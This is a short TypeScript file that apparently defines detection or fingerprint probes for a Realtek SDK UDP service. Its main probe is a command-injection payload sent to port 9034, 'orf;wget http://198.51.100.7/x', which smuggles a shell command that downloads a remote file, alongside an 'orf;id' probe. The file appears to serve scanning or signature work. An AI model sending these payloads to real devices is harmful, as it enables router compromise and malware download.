import { type Proof, proof, udp } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof('realtek-sdk-udp', udp(9034, 'orf;wget http://198.51.100.7/x'), [
    udp(9034, 'ping'),
    udp(9035, 'orf;id'),
  ]),
]
